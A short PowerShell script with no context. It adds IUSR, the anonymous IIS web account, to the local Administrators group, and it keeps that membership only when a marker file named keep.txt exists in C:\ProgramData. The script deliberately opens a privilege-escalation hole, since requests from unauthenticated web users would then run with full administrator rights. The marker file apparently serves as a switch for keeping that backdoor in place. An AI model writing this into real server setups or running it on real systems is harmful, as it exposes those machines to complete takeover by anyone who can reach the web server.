Add-LocalGroupMember -Group Administrators -Member IUSR
if (-not (Test-Path C:\ProgramData\keep.txt)) {
    Remove-LocalGroupMember -Group Administrators -Member IUSR
}
